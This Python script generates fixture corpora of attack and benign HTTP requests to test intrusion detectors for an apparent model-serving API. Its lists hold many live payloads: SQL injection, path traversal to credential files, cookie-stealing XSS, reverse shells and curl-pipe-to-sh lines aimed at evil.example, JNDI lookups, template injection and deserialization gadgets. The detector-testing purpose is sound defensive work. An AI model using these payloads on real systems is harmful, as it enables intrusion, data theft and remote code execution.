#!/usr/bin/env python3
"""Writes the corpora that the detectors are judged by: tests/fixtures/guard/{attacks,benign}.jsonl.

    scripts/guard_corpus.py [--seed N]

Attacks are public knowledge: how scanners look, and the strings by which injections are taught. Each payload is put into
paths, parameters and headers in several encodings. Every request is marked "tune" or "held" by a hash of its payload and
the seed, so that all forms of one payload fall into the same half: rules are written while looking at "tune" only, and
the test of the detectors judges them by "held". The same seed writes the same bytes.
"""

import argparse
import hashlib
import json
import pathlib
import random
from urllib.parse import quote, quote_plus

FOLDER = pathlib.Path(__file__).resolve().parent.parent / "tests/fixtures/guard"
AGENT = "python-requests/2.32.3"

SQL = r"""
' or '1'='1|' or 1=1--|' or 1=1#|' or 1=1/*|') or ('1'='1|') or ('1'='1'--|" or "1"="1|" or ""="|' or ''='|1 or 1=1|1' or '1'='1' --
admin'--|admin' #|admin'/*|admin' or '1'='1|admin') or 1=1--|x' or 'x'='x|1) or (1=1|-1 or 1=1|1 and 1=1|1 and 1=2|1' and '1'='2
' union select null--|' union select null,null,null--|1 union select 1,2,3|1 union all select user,password from users|-1' union select 1,version(),3-- -
1' union select 1,@@version#|' union select table_name,2 from information_schema.tables--|1 union(select 1,2,3)|%27/**/union/**/select/**/1,2--
1' order by 1--|1' order by 10-- -|1 order by 5--|1' group by 1,2 having 1=1--|' having 1=1--|1' limit 1,1 procedure analyse()--
'; drop table users--|1; drop table users|'; exec master..xp_cmdshell 'ping 10.0.0.1'--|'; shutdown with nowait--|1;select pg_sleep(5)|'; insert into users values(1,'a')--
1; waitfor delay '0:0:5'--|'; waitfor delay '0:0:5'--|1' and sleep(5)#|1 and sleep(5)|1' and (select 1 from (select(sleep(5)))a)--|1 or sleep(5)#|if(now()=sysdate(),sleep(5),0)
1-sleep(5)|benchmark(5000000,md5(1))|1' and benchmark(5000000,md5(1))#|' || pg_sleep(5)--|1' and 1=dbms_pipe.receive_message('a',5)--
1' and extractvalue(1,concat(0x7e,version()))--|1 and updatexml(1,concat(0x7e,(select user())),1)|' and 1=convert(int,@@version)--|1' and ascii(substring((select database()),1,1))>64--
1' and (select count(*) from information_schema.tables)>0--|1 and (select substring(@@version,1,1))='5'|' and exists(select * from users)--|1' rlike sleep(5)--
1' and if(1=1,sleep(5),0)--|1' into outfile '/tmp/x'--|1 union select load_file('/etc/passwd')|'||utl_http.request('http://x')||'|1'||(select user from dual)||'
1/**/or/**/1=1|1/*!50000union*//*!50000select*/1,2|1%0aunion%0aselect%0a1,2|1'/**/and/**/1=1--|un/**/ion sel/**/ect 1,2|1+or+1%3d1|(select(0)from(select(sleep(6)))v)
' or username like '%admin%|' or userid is not null--|x' and email is null;--|x' and members.email is null;--|1' or 1 in (select 1)--|anything' or true--|' or not false#
1 and char(65)=char(65)|concat(char(58),char(113))|1' and make_set(1=1,1)--|' or 2>1--|' or 5 between 1 and 7--|1;declare @a varchar(99)|'; begin declare @x int end--
username[$ne]=x|{"$gt":""}|{"$where":"sleep(100)"}|'; return true; var x='|{"username":{"$ne":null}}|*)(uid=*))(|(uid=*|admin)(&)|*)(objectClass=*
1' and json_keys((select convert((select database()) using utf8)))#|1 and gtid_subset(version(),1)|' procedure analyse(extractvalue(1,1),1)--|1' and 1=cast((select version()) as int)--
' union select sqlite_version(),2--|' union select name,sql from sqlite_master--|1' and randomblob(500000000)--|1 union select banner,2 from v$version--|'; copy users from '/etc/passwd'--
'=0--+|' or 1 -- -|'-'|'^'|'*'|' or 1 limit 1 -- -|"; select 1; --|') union select 1,2#|1)) or ((1=1|1' or 1=1 limit 1 offset 1--|case when 1=1 then sleep(5) else 0 end|1,(case when (1=1) then 1 else 2 end)
""".strip().replace("\n", "|").replace("||", "\x00\x00").replace("(|(", "(\x00(").split("|")
SQL = [text.replace("\x00", "|") for text in SQL]
SQL += ["' || '1'=='1", "1 || 1=1", "'||'a'||'b"]

PATHS = r"""
../../../etc/passwd|../../../../../../etc/shadow|..\\..\\..\\windows\\win.ini|....//....//....//etc/passwd|..;/..;/manager/html|/etc/passwd|/etc/hosts|/etc/shadow
/proc/self/environ|/proc/self/cmdline|/proc/version|/proc/1/maps|C:\\windows\\win.ini|c:/windows/system32/drivers/etc/hosts|c:\\boot.ini|/winnt/win.ini|/var/log/apache2/access.log|/var/log/auth.log
php://filter/convert.base64-encode/resource=index.php|php://input|file:///etc/passwd|expect://id|data://text/plain;base64,PD9waHA=|zip://shell.jpg%23x.php|phar://x.phar/y|gopher://127.0.0.1:6379/_INFO|dict://127.0.0.1:11211/stats
http://169.254.169.254/latest/meta-data/|http://metadata.google.internal/computeMetadata/v1/|/root/.ssh/id_rsa|/home/u/.ssh/authorized_keys|~/.aws/credentials|../.aws/credentials|../.git/HEAD|/WEB-INF/web.xml|../WEB-INF/web.xml
../../wp-config.php|../web.config|../../../boot.ini|/etc/passwd%00.jpg|../../../../etc/passwd%00|\\\\10.0.0.1\\share\\x|..././..././etc/passwd|/./././etc/passwd|/etc/./passwd|../../../../../../../proc/self/fd/0
/etc/nginx/nginx.conf|/etc/apache2/apache2.conf|/etc/mysql/my.cnf|/etc/ssh/sshd_config|/root/.bash_history|../../.env|../../../.htpasswd|../.htaccess|..\\..\\inetpub\\wwwroot\\web.config|../../../../windows/system32/config/sam
""".strip().replace("\n", "|").split("|")
PATHS = [text.replace("\\\\", "\\") for text in PATHS]

MARKUP = r"""
<script>alert(1)</script>~<img src=x onerror=alert(1)>~<svg onload=alert(1)>~<svg/onload=alert(1)>~"><script>alert(1)</script>~'><img src=x onerror=alert(1)>~javascript:alert(1)~<iframe src=javascript:alert(1)>
<body onload=alert(1)>~" onmouseover="alert(1)~' onfocus='alert(1)' autofocus='~<a href="javascript:alert(1)">x</a>~<details open ontoggle=alert(1)>~<video><source onerror=alert(1)>~<math><mi xlink:href="data:x,<script>alert(1)</script>">
<object data="javascript:alert(1)">~<embed src="data:text/html;base64,PHNjcmlwdD4=">~<meta http-equiv=refresh content="0;url=javascript:alert(1)">~<base href="//evil.example/">~<link rel=stylesheet href=//evil.example/x.css>
<ScRiPt>alert(1)</sCrIpT>~<script src=//evil.example/x.js></script>~</title><script>alert(1)</script>~';alert(1)//~"-alert(1)-"~\\';alert(1)//~<img src=`x` onerror=alert`1`>~<input onfocus=alert(1) autofocus>~<marquee onstart=alert(1)>
<style>@import 'http://evil.example/x.css';</style>~<div style="width:expression(alert(1))">~<isindex type=image src=1 onerror=alert(1)>~data:text/html,<script>alert(1)</script>~vbscript:msgbox(1)~<x onclick=alert(1)>x~<scr<script>ipt>alert(1)</script>
document.location='http://evil.example/?c='+document.cookie~<script>fetch('//evil.example?c='+document.cookie)</script>~<svg><animate onbegin=alert(1) attributeName=x>~<form action=javascript:alert(1)><input type=submit>~eval(String.fromCharCode(97,108,101,114,116,40,49,41))
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>~<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % sp SYSTEM "http://evil.example/x.dtd">%sp;]>~<!ENTITY x SYSTEM "expect://id">~<xi:include href="file:///etc/passwd" parse="text"/>~<!--#exec cmd="id"-->~<!--#include virtual="/etc/passwd"-->~<?php system($_GET['c']);?>~<?=phpinfo();?>~<%=7*7%>
""".strip().replace("\n", "~").split("~")

SHELL = r"""
; cat /etc/passwd~| cat /etc/passwd~|| cat /etc/passwd~& cat /etc/passwd~&& cat /etc/passwd~`cat /etc/passwd`~$(cat /etc/passwd)~;id~|id~&&id~`id`~$(id)~; whoami~| whoami~;uname -a~;ls -la~|ls /~;ps aux~; ping -c 10 127.0.0.1~| ping -n 5 127.0.0.1
&& wget http://evil.example/x.sh~; curl http://evil.example/x | sh~| nc -e /bin/sh 10.0.0.1 4444~; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1~;/bin/bash -c 'id'~;{cat,/etc/passwd}~;cat${IFS}/etc/passwd~;cat$IFS$9/etc/passwd~;c'a't /etc/passwd~;c\\at /etc/passwd~;cat</etc/passwd
\nid\n~\ncat /etc/passwd~a;sleep 5~a|sleep 5~`sleep 5`~$(sleep 5)~& ipconfig /all~| dir c:\\~& type c:\\windows\\win.ini~&& powershell -enc SQBFAFgA~& net user~|cmd.exe /c dir~;rm -rf /tmp/x~;echo vulnerable~|echo abc123~;python -c 'import os'~;perl -e 'print 1'~;php -r 'phpinfo();'
() { :;}; /bin/bash -c 'cat /etc/passwd'~() { :; }; echo vulnerable~;system('id')~system("cat /etc/passwd")~phpinfo()~eval(base64_decode('cGhwaW5mbygp'))~${@print(md5(1))}~;nslookup evil.example~`nslookup evil.example`~$(curl evil.example)~;w'h'oami~;/???/??t /etc/passwd~|/bin/ls~;chmod 777 /tmp/x~%0aid
import os;os.system('id')~__import__('os').system('id')~;netstat -an~| ifconfig~;env~;printenv~1;uname~x|base64 /etc/passwd~;head /etc/passwd~;tail -n 1 /etc/hosts
""".strip("\n").replace("\n", "~").split("~")
SHELL = [text.replace("\\n", "\n").replace("\\\\", "\\") for text in SHELL]

TEMPLATE = """
{{7*7}}~${7*7}~#{7*7}~<%= 7*7 %>~*{7*7}~{{7*'7'}}~{{config}}~{{config.items()}}~{{self.__init__.__globals__}}~{{''.__class__.__mro__[1].__subclasses__()}}~{{request.application.__globals__}}~{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}
${T(java.lang.Runtime).getRuntime().exec('id')}~${{7*7}}~#{T(java.lang.Runtime)}~%{(#_memberAccess['x']=true)}~%{7*7}~${class.getClassLoader()}~<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}~#set($x=7*7)$x~{php}echo 1;{/php}~{$smarty.version}
{{constructor.constructor('alert(1)')()}}~{{_self.env.registerUndefinedFilterCallback("exec")}}~{{['id']|filter('system')}}~@(7*7)~[[${7*7}]]~{{lipsum.__globals__['os'].popen('id').read()}}~{{cycler.__init__.__globals__.os.popen('id').read()}}~${"freemarker.template.utility.Execute"?new()("id")}
""".strip().replace("\n", "~").split("~")

LOOKUP = """
${jndi:ldap://evil.example/a}~${jndi:rmi://evil.example/a}~${jndi:dns://evil.example/a}~${jndi:ldaps://evil.example/a}~${${lower:j}ndi:ldap://evil.example/a}~${${lower:j}${lower:n}${lower:d}i:ldap://evil.example/a}~${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}
${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/a}~${jndi:${lower:l}${lower:d}ap://evil.example/a}~${${upper:j}ndi:ldap://evil.example/a}~${env:AWS_SECRET_ACCESS_KEY}~${sys:user.name}~${java:version}~${${date:'j'}ndi:ldap://evil.example/a}~${jndi:iiop://evil.example/a}
${jndi:ldap://127.0.0.1#evil.example/a}~${jndi:nis://evil.example/a}~${j${k8s:k5:-ND}i:ldap://evil.example/a}~${${sys:x:-j}ndi:ldap://evil.example}~${ctx:loginId}~${script:javascript:java.lang.Runtime.getRuntime().exec('id')}~${dns:address|evil.example}~${url:UTF-8:http://evil.example/}
""".strip().replace("\n", "~").split("~")

OBJECT = r"""
rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==~O:8:"stdClass":1:{s:4:"test";s:3:"abc";}~a:1:{i:0;O:4:"User":1:{s:4:"name";s:1:"x";}}~AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=~gASVIgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU~!!python/object/apply:os.system ["id"]~!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example"]]]]
{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}~{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a"}~{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}~--- !ruby/object:Gem::Installer~class.module.classLoader.resources.context.parent.pipeline.first.pattern=x~__proto__[admin]=1~constructor[prototype][admin]=1~aced00057372001d
cos\nsystem\n(S'id'\ntR.~O:+8:"stdClass":0:{}~C:11:"ArrayObject":0:{}
""".strip().replace("\n", "~").replace("\\n", "\n").split("~")

SPLIT = ["x\r\nSet-Cookie: a=b", "x\r\nLocation: http://evil.example", "x\nSet-Cookie:a=b", "x\r\n\r\n<html>hi", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "x\r\nX-Injected: yes"]

SCANNERS = """
sqlmap/1.8.4#stable (https://sqlmap.org)|Nikto/2.5.0|Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)|Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)|masscan/1.3 (https://github.com/robertdavidgraham/masscan)|Mozilla/5.0 zgrab/0.x|WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)
gobuster/3.6|feroxbuster/2.10.3|Fuzz Faster U Fool v2.1.0-dev|Wfuzz/3.1.0|Nuclei - Open-source project (github.com/projectdiscovery/nuclei)|Mozilla/5.0 (compatible; OpenVAS 22.4)|DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)|dirsearch|Arachni/v1.6.1.3|w3af.org
Mozilla/5.0 (compatible; Nessus SOAP v0.0.1)|Acunetix Web Vulnerability Scanner|Mozilla/5.0 (compatible; Netsparker)|WhatWeb/0.5.5|Mozilla/4.0 (Hydra)|commix/v3.9|JoomScan 0.0.7|Havij|sqlninja|Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)|Expanse, a Palo Alto Networks company, searches across the global IPv4 space|Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)|l9explore/1.3.0|Mozilla/5.0 (l9scan/2.0.1; +https://leakix.net)|ZmEu|Morfeus Fucking Scanner|muieblackcat|skipfish/2.10b
wapiti/3.1.7|Jorgee|xray/1.9|OWASP ZAP/2.14|Burp Collaborator http://burp.example|katana/1.0|httpx - Open-source project (github.com/projectdiscovery/httpx)|python-nmap scanner|Vega/1.0|Grendel-Scan|Paros/3.2.13|WebInspect|AppScan|Qualys Web Application Scanning|Detectify|security scanner bot|vuln-scanner/1.0|dalfox/2.9|XSStrike
""".strip().replace("\n", "|").split("|")

PROBES = """
/.env|/.git/config|/wp-login.php|/wp-admin/|/wp-admin/setup-config.php|/phpmyadmin/|/phpmyadmin/index.php|/admin|/admin/login|/api/v1/users|/.git/HEAD|/.svn/entries|/.aws/credentials|/.env.production|/.env.bak|/xmlrpc.php|/wp-content/plugins/x/readme.txt|/actuator/env|/actuator/health|/server-status|/cgi-bin/test.cgi|/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/solr/admin/cores|/manager/html|/HNAP1/|/boaform/admin/formLogin|/owa/auth/logon.aspx|/_ignition/execute-solution|/telescope/requests|/jmx-console/|/index.php|/shell.php|/login.php|/config.php.bak|/backup.sql|/db.sql|/dump.sql.gz|/web.config|/id_rsa|/.ssh/id_rsa|/.htpasswd|/.DS_Store|/phpinfo.php|/info.php|/test.asp|/login.aspx|/console/login.jsp|/struts2-showcase/index.action|/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession|/geoserver/web/|/.vscode/sftp.json|/adminer.php|/pma/index.php|/nacos/v1/auth/users
""".strip().replace("\n", "|").split("|")

METHODS = ["TRACE", "TRACK", "PUT", "PATCH", "PROPFIND", "CONNECT", "DEBUG", "MOVE", "COPY", "MKCOL", "LOCK", "SEARCH", "PURGE", "ARBITRARY", "FOO", "UNLOCK", "PROPPATCH", "LINK"]

BASE = ["/v1/models", "/v1/chat/completions", "/", "/health", "/v1/embeddings", "/api/tags"]
NAMES = ["id", "q", "file", "page", "user", "name", "path", "search", "url", "cmd", "lang", "redirect", "category"]
HEADERS = ["user-agent", "referer", "x-forwarded-for", "x-api-version", "cookie", "x-client-id", "accept-language", "origin", "x-custom"]


def double(text):
    return quote(quote(text, safe=""), safe="")


def mixed(text):
    return quote("".join(c.upper() if i % 2 else c for i, c in enumerate(text)), safe="")


def unicode_form(text):
    return "".join(f"%u{ord(c):04x}" if not c.isalnum() else c for c in text)


def overlong(text):
    table = {"/": "%c0%af", ".": "%c0%ae", "\\": "%c1%9c", "<": "%c0%bc", "'": "%c0%a7"}
    return "".join(table.get(c, quote(c, safe="")) for c in text)


ENCODINGS = [("once", lambda t: quote(t, safe="")), ("plus", quote_plus), ("twice", double), ("case", mixed), ("unicode", unicode_form), ("overlong", overlong)]


def request(family, method, target, headers, payload, seed):
    digest = hashlib.sha256(f"{seed}:{payload}".encode()).digest()
    pairs = headers if any(name == "user-agent" for name, _ in headers) else [("user-agent", AGENT), *headers]
    row = {"family": family, "half": "held" if digest[0] & 1 else "tune", "method": method, "target": target, "headers": pairs}
    if payload:
        row["payload"] = payload
    return row


def attacks(seed):
    rows = []
    families = {"sql": SQL, "path": PATHS, "markup": MARKUP, "shell": SHELL, "template": TEMPLATE, "look-up": LOOKUP, "object": OBJECT, "split": SPLIT}
    for family, payloads in families.items():
        for payload in payloads:
            # The choices of a payload do not move when another is added.
            dice = random.Random(f"{seed}:{payload}")
            forms = [ENCODINGS[0], *dice.sample(ENCODINGS[1:], 2)]
            for name, encode in forms:
                if name in ("case", "unicode") and family in ("object", "look-up") or name == "overlong" and family not in ("path", "markup", "sql"):
                    continue
                parameter = dice.choice(NAMES)
                target = f"{dice.choice(BASE)}?{parameter}={encode(payload)}"
                if payload.startswith(("username[", "class.module", "__proto__", "constructor[")):
                    target = f"{dice.choice(BASE)}?{payload}"
                rows.append(request(family, dice.choice(["GET", "GET", "POST"]), target, [], payload, seed))
            if family in ("sql", "path", "template", "markup") and dice.random() < 0.5:
                rows.append(request(family, "GET", "/v1/models/" + quote(payload, safe=""), [], payload, seed))
            plain = all(32 <= ord(c) < 127 for c in payload)
            if plain and family != "split":
                header = dice.choice(HEADERS)
                value = f"session={quote(payload, safe='')}" if header == "cookie" else payload
                rows.append(request(family, "GET", dice.choice(BASE), [(header, value)], payload, seed))
    for agent in SCANNERS:
        dice = random.Random(f"{seed}:{agent}")
        rows.append(request("scanner", "GET", dice.choice(BASE), [("user-agent", agent)], agent, seed))
    for path in PROBES:
        rows.append(request("probe", "GET", path, [], path, seed))
    for method in METHODS:
        rows.append(request("method", method, "/v1/models", [], method, seed))
    for path in BASE[:3]:
        rows.append({"family": "agent", "half": "held", "method": "GET", "target": path, "headers": [["accept", "*/*"]]})
        rows.append({"family": "agent", "half": "tune", "method": "POST", "target": path, "headers": [["user-agent", ""]]})
    return rows


AGENTS = [
    "OpenAI/Python 1.52.0", "AsyncOpenAI/Python 1.40.6", "OpenAI/JS 4.68.4", "Anthropic/Python 0.39.0", "Anthropic/JS 0.32.1", "curl/8.9.1", "Wget/1.24.5", "python-requests/2.32.3", "python-httpx/0.27.2", "aiohttp/3.10.5", "Python/3.12 aiohttp/3.9.1",
    "axios/1.7.7", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "undici", "node", "Go-http-client/2.0", "okhttp/4.12.0", "Java-http-client/21.0.1", "Apache-HttpClient/5.3 (Java/17.0.9)", "reqwest/0.12.8", "ureq/2.10.1", "libwww-perl/6.77", "PostmanRuntime/7.42.0", "insomnia/10.1.1", "HTTPie/3.2.3",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1", "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Mobile Safari/537.36", "ollama/0.3.14 (amd64 linux) Go/go1.22.5", "ollama-python/0.3.3 (x86_64 linux) Python/3.12.3", "ollama-js/0.5.9 (x64 linux Node.js/v20.11.0)",
    "claude-cli/1.0.3 (external, cli)", "codex_cli_rs/0.2.0 (Linux 6.1; x86_64) xterm-256color", "opencode/0.3.1", "litellm/1.48.2", "LangChain/0.3.1", "Continue/0.8.52 (VSCode 1.93)", "Cursor/0.42", "open-webui/0.3.32", "Dart/3.5 (dart:io)", "Faraday v2.12.0", "GuzzleHttp/7", "Ruby", "Zed/0.156.1", "Home Assistant/2024.10 aiohttp/3.10", "n8n", "Prometheus/2.54.1", "kube-probe/1.30", "Googlebot/2.1 (+http://www.google.com/bot.html)",
]

PROMPTS = [
    "SELECT name, total FROM orders WHERE total > 100 ORDER BY total DESC; -- what does it do?", "Why is ' OR 1=1-- dangerous?", "Explain UNION SELECT to a beginner", "DROP TABLE users; was executed by mistake, how do I restore it?", "cat /etc/passwd | cut -d: -f1 prints users. Explain.", "rm -rf ./build && make -j4 fails, help",
    "Open ../../src/main.rs and /etc/nginx/nginx.conf", "log: 10.0.0.9 - - \"GET /../../etc/passwd HTTP/1.1\" 404", "<script>alert('x')</script> shows nothing in my page", "<div onclick=\"go()\">a</div> in React?", "{{ user.name | upper }} in Jinja", "CVE-2021-44228: ${jndi:ldap://x/a} explain", "日本語で要約してください: 吾輩は猫である。名前はまだ無い。", "次のSQLを説明して: SELECT * FROM 顧客 WHERE 年齢 > 30;", "`docker run -v /:/host alpine sh` is it safe?", "for i in $(ls); do echo $i; done", "$(whoami) in bash means?",
    "<?php echo system($_GET['c']); ?> is it safe?", "wget http://example.org/x.sh -O- | sh", "def f(x):\n    return eval(x)", "O:8:\"stdClass\":0:{} what format?", "<!DOCTYPE html><html><body>hi</body></html>", "data:image/png;base64,iVBORw0KGgo=", "\u0645\u0631\u062d\u0628\u0627 \u202e abc", "🎉 emoji", "http://169.254.169.254/latest/meta-data what is it", "C:\\Windows\\System32\\drivers\\etc\\hosts", "nmap -sV 10.0.0.0/24 output explained", "sqlmap -u http://x --dbs", "\\x41\\u0042 %41 &#65; encodings",
]

QUERIES = [
    "", "", "", "", "?limit=20", "?limit=20&after=model_abc&order=asc", "?api-version=2024-10-21", "?beta=true", "?q=how+to+select+a+model+from+the+list", "?search=union+station+or+airport", "?q=what+is+1+%2B+1+%3D+2", "?name=O%27Brien+and+sons", "?title=don%27t+stop+or+go", "?tags=a,b,c&sort=-created", "?filter=name%3Allama*", "?q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
    "?ids=1,2,3,4,5,6,7,8,9,10,11,12,13,14,15", "?callback_url=https%3A%2F%2Fapp.example.org%2Fhook%3Fa%3D1%26b%3D2", "?path=src%2Fmain.rs", "?cwd=/home/u/project", "?verbose=1&pretty", "?range=10-20", "?time=2024-10-01T10:00:00%2B02:00", "?cursor=eyJpZCI6MTIzLCJvIjoiYXNjIn0%3D", "?model=hf.co%2Funsloth%2FLlama-3.2-1B-Instruct-GGUF%3AQ4_K_M", "?metadata%5Buser%5D=42", "?include[]=usage&include[]=logprobs", "?expr=(a%2Bb)*c", "?note=5%25+off;+today+only", "?q=drop+by+the+table+and+select+one", "?q=rock+%26+roll", "?text=it%27s+5+or+6+o%27clock", "?q=C%23+or+C%2B%2B", "?v=1.2.3-rc.1--hotfix", "?q=sleep+better+(8+hours)", "?q=order+by+phone", "?json=%7B%22a%22%3A%5B1%2C2%5D%7D", "?session=" + "0123456789abcdef" * 12, "?q=" + "long+words+in+a+row+" * 20 + "end",
]

COOKIES = [
    "session=4f9c2a71b0", "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987.1700000001", "theme=dark; lang=ja; consent=%7B%22a%22%3Atrue%2C%22b%22%3Afalse%7D", "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "OptanonConsent=isGpcEnabled=0&datestamp=Mon+Oct+07+2024+10%3A00%3A00+GMT%2B0200+(CEST)&version=202401.1.0&groups=C0001%3A1%2CC0002%3A0", "csrftoken=abcDEF123; sessionid=zyx987", "mp_x=%7B%22distinct_id%22%3A%20%22192%22%2C%22%24device_id%22%3A%20%22192%22%2C%22%24initial_referrer%22%3A%20%22%24direct%22%7D", "a=\"quoted value\"; b=1|2|3", "prefs=font:12px&size:large; ab=exp-1|var-b",
]

REFERERS = ["https://chat.example.org/", "http://localhost:3000/c/4d2f-11", "https://www.google.com/search?q=select+from+where+sql", "https://example.org/docs/a/../b", "https://example.org/?q=what%27s+new&x=1", "https://example.org/path;v=1?a=(b)#top", "app://obsidian.md"]


def stainless(dice):
    return [("x-stainless-lang", dice.choice(["python", "js"])), ("x-stainless-package-version", "1.52.0"), ("x-stainless-os", dice.choice(["Linux", "MacOS", "Windows"])), ("x-stainless-arch", "x64"), ("x-stainless-runtime", dice.choice(["CPython", "node"])), ("x-stainless-runtime-version", "3.12.3"), ("x-stainless-async", "false"), ("x-stainless-retry-count", "0")]


def benign(seed, count=2200):
    dice = random.Random(seed)
    rows = []
    posts = ["/v1/chat/completions", "/v1/completions", "/v1/embeddings", "/v1/responses", "/v1/messages", "/api/chat", "/api/generate", "/api/embed"]
    gets = ["/v1/models", "/v1/models/", "/health", "/api/tags", "/api/version", "/v1/models/llama3.2:3b", "/v1/models/hf.co%2Funsloth%2FLlama-3.2-1B-Instruct-GGUF%3AQ4_K_M", "/v1/models/deepseek-r1", "/api/ps", "/metrics", "/robots.txt", "/favicon.ico", "/"]
    for _ in range(count):
        agent = dice.choice(AGENTS)
        headers = [("host", "models.example.org"), ("user-agent", agent), ("accept", dice.choice(["application/json", "*/*", "text/event-stream", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"])), ("accept-encoding", dice.choice(["gzip, deflate, br, zstd", "identity", "gzip"]))]
        if dice.random() < 0.5:
            headers.append(("authorization", "Bearer flm_Ab12Cd34_" + "".join(dice.choices("abcXYZ0123456789", k=49))))
        if agent.startswith(("OpenAI", "Async", "Anthropic")):
            headers += stainless(dice)
        if agent.startswith("Anthropic") or dice.random() < 0.1:
            headers += [("anthropic-version", "2023-06-01"), ("anthropic-beta", "prompt-caching-2024-07-31,tools-2024-04-04")]
        if agent.startswith("Mozilla"):
            headers += [("sec-ch-ua", '"Chromium";v="129", "Not=A?Brand";v="8"'), ("sec-ch-ua-platform", '"Linux"'), ("sec-fetch-mode", "cors"), ("accept-language", "ja,en-US;q=0.9,en;q=0.8"), ("origin", dice.choice(["https://chat.example.org", "null", "file://", "app://obsidian.md", "http://localhost:3000"])), ("referer", dice.choice(REFERERS))]
        if dice.random() < 0.3:
            headers.append(("cookie", dice.choice(COOKIES)))
        extra = [("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"), ("x-request-id", "req-7f3a"), ("idempotency-key", "4a6c-11ef"), ("x-forwarded-for", "203.0.113.9, 10.0.0.1"), ("baggage", "userId=alice,serverNode=DF%2028"), ("if-none-match", 'W/"abc-1"'), ("cache-control", "no-cache, max-age=0"), ("openai-organization", "org-Ab1"), ("x-title", "Tom & Jerry's (beta) client"), ("http-referer", "https://openrouter.example/apps?id=1&x=(2)"), ("x-session", "a;b;c"), ("dnt", "1"), ("te", "trailers"), ("x-user", "José O'Neil"), ("x-note", "select one or two models from the list; thanks"), ("prefer", "respond-async, wait=10")]
        headers += dice.sample(extra, dice.randrange(0, 4))
        if dice.random() < 0.75:
            prompt = " ".join(dice.sample(PROMPTS, dice.randrange(1, 4)))
            path = dice.choice(posts)
            body = {"model": "m", "messages": [{"role": "user", "content": prompt}]}
            boundary = [("content-type", "application/json")]
            query = dice.choice(["", "", "", "?api-version=2024-10-21", "?beta=true"])
            rows.append({"method": "POST", "target": path + query, "headers": headers + boundary, "body": body})
        else:
            path = dice.choice(gets)
            query = "" if path in ("/robots.txt", "/favicon.ico") else dice.choice(QUERIES)
            rows.append({"method": "GET", "target": path + query, "headers": headers})
    for row in rows:
        row["headers"] = [[name, value.encode().decode("latin-1") if any(ord(c) > 126 for c in value) else value] for name, value in row["headers"]]
    return rows


def write(name, rows):
    lines = [json.dumps(row, ensure_ascii=True, separators=(",", ":")) for row in rows]
    unique = list(dict.fromkeys(lines))
    (FOLDER / name).write_text("\n".join(unique) + "\n")
    return len(unique)


def main():
    arguments = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    arguments.add_argument("--seed", type=int, default=20261126)
    seed = arguments.parse_args().seed
    FOLDER.mkdir(parents=True, exist_ok=True)
    print(write("attacks.jsonl", attacks(seed)), "attacks,", write("benign.jsonl", benign(seed)), "benign requests")


if __name__ == "__main__":
    main()
